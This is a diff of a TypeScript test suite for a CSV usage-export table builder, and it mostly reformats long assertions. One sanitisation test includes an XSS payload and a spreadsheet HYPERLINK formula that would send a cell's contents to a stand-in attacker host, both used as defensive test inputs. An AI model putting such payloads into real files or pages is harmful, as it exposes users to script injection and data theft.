@@ -27,7 +27,10 @@ function cell(table: UsageTable, row: string | TotalsRow | 'total', key: string)
  * decimals by string surgery and sum with bigint, per entity (joined entity columns) and overall.
  */
 function naiveSums(name: string, entityCols: readonly string[], column: string) {
-  const [headerLine, ...lines] = readFileSync(fixture(name), 'utf8').replace(/^\ufeff/, '').split(/\r?\n/).filter((l) => l !== '');
+  const [headerLine, ...lines] = readFileSync(fixture(name), 'utf8')
+    .replace(/^\ufeff/, '')
+    .split(/\r?\n/)
+    .filter((l) => l !== '');
   const headers = headerLine.split(',');
   const at = (h: string) => headers.indexOf(h);
   const perEntity = new Map<string, bigint | null>();
@@ -47,7 +50,15 @@ function naiveSums(name: string, entityCols: readonly string[], column: string) 
   return { perEntity: new Map([...perEntity].map(([k, v]) => [k, show(v)])), grand: show(grand) };
 }
 
-const MODEL_SUMS = ['requests', 'sum_prompt_tokens', 'sum_completion_tokens', 'sum_cached_prompt_tokens', 'sum_cache_creation_tokens', 'no_cache_tokens', 'total_cost_usd'];
+const MODEL_SUMS = [
+  'requests',
+  'sum_prompt_tokens',
+  'sum_completion_tokens',
+  'sum_cached_prompt_tokens',
+  'sum_cache_creation_tokens',
+  'no_cache_tokens',
+  'total_cost_usd',
+];
 
 describe('totals', () => {
   describe('detectExportType', () => {
@@ -82,7 +93,13 @@ describe('totals', () => {
   });
 
   describe('models', () => {
-    for (const file of ['models-byok.csv', 'models-byok-by-source.csv', 'models-byok-by-deployment.csv', 'models-managed.csv', 'models-old.csv']) {
+    for (const file of [
+      'models-byok.csv',
+      'models-byok-by-source.csv',
+      'models-byok-by-deployment.csv',
+      'models-managed.csv',
+      'models-old.csv',
+    ]) {
       it(`${file}: every per-model and grand total equals an independent bigint sum`, async () => {
         const table = await load(file);
         const hasProvider = table.columns.some((c) => c.key === 'provider');
@@ -104,7 +121,10 @@ describe('totals', () => {
     it('merges BYOK and non-BYOK rows of one model into one row with both parts as children', async () => {
       const t = await load('models-byok.csv');
       assert.equal(t.totals.entityLabel, 'Model');
-      assert.deepEqual(t.totals.rows.map((r) => r.cells[0]), ['gpt-4.1', 'claude-sonnet-4', 'gpt-4.1-mini', 'gemini-2.5-flash', 'mistral-large', 'o3', 'llama-3.3-70b']);
+      assert.deepEqual(
+        t.totals.rows.map((r) => r.cells[0]),
+        ['gpt-4.1', 'claude-sonnet-4', 'gpt-4.1-mini', 'gemini-2.5-flash', 'mistral-large', 'o3', 'llama-3.3-70b'],
+      );
       const gpt = t.totals.rows[0];
       assert.equal(gpt.rowCount, 2);
       assert.equal(cell(t, gpt, 'requests'), '1750');
@@ -126,7 +146,11 @@ describe('totals', () => {
       const flat = await load('models-byok.csv');
       for (const file of ['models-byok-by-source.csv', 'models-byok-by-deployment.csv']) {
         const grouped = await load(file);
-        assert.deepEqual(grouped.totals.rows.map((r) => r.cells[0]), flat.totals.rows.map((r) => r.cells[0]), file);
+        assert.deepEqual(
+          grouped.totals.rows.map((r) => r.cells[0]),
+          flat.totals.rows.map((r) => r.cells[0]),
+          file,
+        );
         for (const key of [...MODEL_SUMS, DERIVED_KEYS.share, DERIVED_KEYS.costPer1k, DERIVED_KEYS.cacheHitShare]) {
           for (const row of flat.totals.rows) {
             assert.equal(cell(grouped, row.cells[0]!, key), cell(flat, row, key), `${file} ${key} ${row.cells[0]}`);
@@ -137,8 +161,19 @@ describe('totals', () => {
       const bySource = await load('models-byok-by-source.csv', { type: 'models', groupBy: 'source' });
       const gpt = bySource.totals.rows[0];
       assert.deepEqual(
-        gpt.children!.map((c) => [cell(bySource, c, 'source'), cell(bySource, c, 'bring_your_keys'), cell(bySource, c, 'requests')]),
-        [['WEB', 'true', '634'], ['MOBILE', 'true', '506'], ['API', 'true', '380'], ['WEB', 'false', '97'], ['MOBILE', 'false', '76'], ['API', 'false', '57']],
+        gpt.children!.map((c) => [
+          cell(bySource, c, 'source'),
+          cell(bySource, c, 'bring_your_keys'),
+          cell(bySource, c, 'requests'),
+        ]),
+        [
+          ['WEB', 'true', '634'],
+          ['MOBILE', 'true', '506'],
+          ['API', 'true', '380'],
+          ['WEB', 'false', '97'],
+          ['MOBILE', 'false', '76'],
+          ['API', 'false', '57'],
+        ],
       );
       assert.equal(cell(bySource, gpt, 'source'), null);
       assert.equal(cell(bySource, 'mistral-large', 'source'), 'WEB', 'a single part shows its value on the row');
@@ -146,7 +181,10 @@ describe('totals', () => {
       for (const row of bySource.totals.rows.filter((r) => r.children)) {
         const sum = row.children!.reduce((s, c) => s + BigInt(cell(bySource, c, 'requests')!), 0n);
         assert.equal(cell(bySource, row, 'requests'), sum.toString());
-        assert.equal(row.children!.reduce((s, c) => s + c.rowCount, 0), row.rowCount);
+        assert.equal(
+          row.children!.reduce((s, c) => s + c.rowCount, 0),
+          row.rowCount,
+        );
       }
     });
 
@@ -198,7 +236,10 @@ describe('totals', () => {
       assert.equal(cell(t, 'gpt-4.1', 'total_cost_usd'), '0.3');
       assert.equal(cell(t, 'o3', 'sum_prompt_tokens'), '123456789012345678901234567891');
       assert.equal(cell(t, 'o3', 'total_cost_usd'), '0.000016', '0.000001 + 1.5e-5');
-      assert.equal(cell(t, 'total', 'sum_prompt_tokens'), (123456789012345678901234567891n + 18014398509481986n).toString());
+      assert.equal(
+        cell(t, 'total', 'sum_prompt_tokens'),
+        (123456789012345678901234567891n + 18014398509481986n).toString(),
+      );
       assert.equal(cell(t, 'total', 'total_cost_usd'), '0.300016');
     });
   });
@@ -207,26 +248,35 @@ describe('totals', () => {
     it('users: one row per user, messages summed, ranks and JSON maps kept per user, n/a stays n/a', async () => {
       const t = await load('users.csv');
       assert.equal(t.totals.entityLabel, 'User');
-      assert.deepEqual(t.totals.columns.slice(0, 2).map((c) => c.key), ['name', 'user_id']);
+      assert.deepEqual(
+        t.totals.columns.slice(0, 2).map((c) => c.key),
+        ['name', 'user_id'],
+      );
       assert.equal(cell(t, 'total', 'messages_total'), '1023'); // 412 + 305 + 198 + 77 + 31 + 0
       assert.equal(cell(t, 'total', 'action_messages'), '54'); // 37 + 0 + 12 + 5 + (empty) + 0
       assert.equal(cell(t, 'total', 'messages_total_rank'), null, 'ranks are never summed');
       assert.equal(cell(t, 'total', 'assistants_messaged'), '3', 'distinct counts take the max');
       assert.equal(cell(t, 'Anna Müller', 'assistants_to_messages'), '{"asst_7a1":80,"asst_2c9":30,"asst_d04":10}');
-      assert.equal(cell(t, 'Jonas O\'Brien', 'department'), 'R&D, Europe');
+      assert.equal(cell(t, "Jonas O'Brien", 'department'), 'R&D, Europe');
       const anonymous = t.totals.rows.find((r) => r.key === 'u-0005')!;
       assert.equal(cell(t, anonymous, 'name'), null);
       assert.equal(cell(t, anonymous, 'action_messages'), null);
       assert.equal(cell(t, 'Anna Müller', DERIVED_KEYS.share), '0.402737'); // 412 / 1023
       const label = t.totals.columns.find((c) => c.key === DERIVED_KEYS.share)!.label;
       assert.equal(label, 'Share of messages');
-      assert.ok(!t.totals.columns.some((c) => c.key === 'period_start' || c.key === 'org_id'), 'file-wide columns stay in All rows');
+      assert.ok(
+        !t.totals.columns.some((c) => c.key === 'period_start' || c.key === 'org_id'),
+        'file-wide columns stay in All rows',
+      );
     });
 
     it('users grouped by model: children per model, cost where present', async () => {
       const t = await load('users-by-model.csv', { type: 'users', groupBy: 'model' });
       const anna = t.totals.rows.find((r) => r.key === 'u-0001')!;
-      assert.deepEqual(anna.children!.map((c) => cell(t, c, 'model')), ['gpt-4.1', 'claude-sonnet-4']);
+      assert.deepEqual(
+        anna.children!.map((c) => cell(t, c, 'model')),
+        ['gpt-4.1', 'claude-sonnet-4'],
+      );
       assert.equal(cell(t, anna, 'messages_total'), '412');
       assert.equal(cell(t, anna, 'total_cost_usd'), '3.995');
       assert.equal(cell(t, anna, 'email'), 'anna.mueller@example.com', 'agreeing attributes survive the merge');
@@ -274,7 +324,11 @@ describe('totals', () => {
       assert.equal(cell(t, 'Zapier', DERIVED_KEYS.costPer1k), null);
       const byModel = await load('api-keys-by-model.csv');
       assert.equal(cell(byModel, 'CI, staging "blue"', 'requests'), '1200');
-      assert.equal(cell(byModel, 'CI, staging "blue"', 'sum_completion_tokens'), '200000', 'the embedding part has none');
+      assert.equal(
+        cell(byModel, 'CI, staging "blue"', 'sum_completion_tokens'),
+        '200000',
+        'the embedding part has none',
+      );
       assert.equal(byModel.totals.rows[0].children!.length, 2);
       assert.equal(cell(byModel, 'total', 'total_cost_usd'), '20.02162');
     });
@@ -293,7 +347,10 @@ describe('totals', () => {
       const t = await load('unknown.csv');
       assert.equal(t.exportType, 'unknown');
       assert.equal(t.totals.entityLabel, 'Row');
-      assert.deepEqual(t.totals.columns.map((c) => c.key), ['date', 'tickets', 'hours', 'team', 'region']);
+      assert.deepEqual(
+        t.totals.columns.map((c) => c.key),
+        ['date', 'tickets', 'hours', 'team', 'region'],
+      );
       assert.equal(cell(t, '2026-10-01', 'tickets'), '15');
       assert.equal(cell(t, '2026-10-01', 'hours'), '30.5', 'the empty hours cell is ignored');
       assert.equal(cell(t, 'total', 'hours'), '61.875');
@@ -353,7 +410,10 @@ describe('totals', () => {
       assert.equal(t.totals.rows[0].cells[0], '<img src=x onerror=alert(1)>');
       assert.equal(t.totals.rows[2].cells[0], '=HYPERLINK("https://evil.example/?q="&A1,"Click")');
       const proto = buildUsageTable(await parseCsv('__proto__,constructor,toString\nx,1,2\n'));
-      assert.deepEqual(proto.columns.map((c) => c.label), ['Proto', 'Constructor', 'To string']);
+      assert.deepEqual(
+        proto.columns.map((c) => c.label),
+        ['Proto', 'Constructor', 'To string'],
+      );
       assert.deepEqual(proto.totals.grandTotal, [null, '1', '2']);
     });
 
@@ -361,7 +421,9 @@ describe('totals', () => {
       const t = buildUsageTable(await parseCsv('name,provider,requests\na,p,5\na,p,<b>n/a</b>\nb,p,x\n'));
       assert.equal(cell(t, 'a', 'requests'), '5');
       assert.equal(cell(t, 'b', 'requests'), null);
-      assert.deepEqual(t.warnings, ['2 cells of column 3 (Requests) are not numbers; they were left out of the totals.']);
+      assert.deepEqual(t.warnings, [
+        '2 cells of column 3 (Requests) are not numbers; they were left out of the totals.',
+      ]);
     });
 
     it('trusts the type hint over the header', async () => {
@@ -375,17 +437,36 @@ describe('totals', () => {
 
   describe('shape of the result', () => {
     it('aligns every row, child and the grand total with the totals columns; raw rows with the file columns', async () => {
-      for (const file of ['models-byok-by-source.csv', 'users.csv', 'agents-by-model.csv', 'unknown.csv', 'odd-ragged.csv']) {
+      for (const file of [
+        'models-byok-by-source.csv',
+        'users.csv',
+        'agents-by-model.csv',
+        'unknown.csv',
+        'odd-ragged.csv',
+      ]) {
         const { table, rows } = await loadUsageTable(fixture(file));
         const width = table.totals.columns.length;
         const all = table.totals.rows.flatMap((r) => [r, ...(r.children ?? [])]);
-        assert.ok(all.every((r) => r.cells.length === width), file);
+        assert.ok(
+          all.every((r) => r.cells.length === width),
+          file,
+        );
         assert.equal(table.totals.grandTotal.length, width, file);
         assert.equal(rows.total, table.rowCount, file);
-        assert.ok((await rows.page(0, rows.total)).every((r) => r.length === table.columns.length), file);
-        assert.equal(table.totals.rows.reduce((s, r) => s + r.rowCount, 0), table.rowCount, file);
+        assert.ok(
+          (await rows.page(0, rows.total)).every((r) => r.length === table.columns.length),
+          file,
+        );
+        assert.equal(
+          table.totals.rows.reduce((s, r) => s + r.rowCount, 0),
+          table.rowCount,
+          file,
+        );
         const entityWidth = table.totals.columns.findIndex((c) => c.aggregate !== 'none');
-        assert.ok(table.totals.grandTotal.slice(0, entityWidth).every((c) => c === null), file);
+        assert.ok(
+          table.totals.grandTotal.slice(0, entityWidth).every((c) => c === null),
+          file,
+        );
         assert.deepEqual(JSON.parse(JSON.stringify(table)), table, 'plain data that survives postMessage');
       }
     });
@@ -426,9 +507,19 @@ describe('totals', () => {
       for (let i = 0; i < rows; i++) {
         const name = entities[rng.int(0, entities.length - 1)];
         // integers, tokens beyond 2^53, micro-dollar costs, and empties
-        const values = [BigInt(rng.int(0, 5000)), BigInt(rng.int(0, 2 ** 31)) * BigInt(rng.int(0, 2 ** 31)), BigInt(rng.int(0, 99_999_999)), BigInt(rng.int(-500, 500))];
+        const values = [
+          BigInt(rng.int(0, 5000)),
+          BigInt(rng.int(0, 2 ** 31)) * BigInt(rng.int(0, 2 ** 31)),
+          BigInt(rng.int(0, 99_999_999)),
+          BigInt(rng.int(-500, 500)),
+        ];
         const empty = rng.int(0, 9) === 0;
-        const texts = [values[0].toString(), values[1].toString(), empty ? '' : formatUnits(values[2], 6), values[3].toString()];
+        const texts = [
+          values[0].toString(),
+          values[1].toString(),
+          empty ? '' : formatUnits(values[2], 6),
+          values[3].toString(),
+        ];
         lines.push(`${name},p,${texts.join(',')}`);
         const acc = expected.get(name) ?? [0n, 0n, 0n, 0n];
         values.forEach((v, j) => {
@@ -443,9 +534,12 @@ describe('totals', () => {
       const scales = [0, 0, 6, 0];
       for (const row of t.totals.rows) {
         const acc = expected.get(row.cells[0]!)!;
-        keys.forEach((k, j) => assert.equal(cell(t, row, k), formatUnits(acc[j], scales[j]), `${k} of ${row.cells[0]}`));
+        keys.forEach((k, j) =>
+          assert.equal(cell(t, row, k), formatUnits(acc[j], scales[j]), `${k} of ${row.cells[0]}`),
+        );
       }
-      if (rows > 0) keys.forEach((k, j) => assert.equal(cell(t, 'total', k), formatUnits(grand[j], scales[j]), `${k} total`));
+      if (rows > 0)
+        keys.forEach((k, j) => assert.equal(cell(t, 'total', k), formatUnits(grand[j], scales[j]), `${k} total`));
       assert.equal(t.totals.rows.length, expected.size);
     }
   });
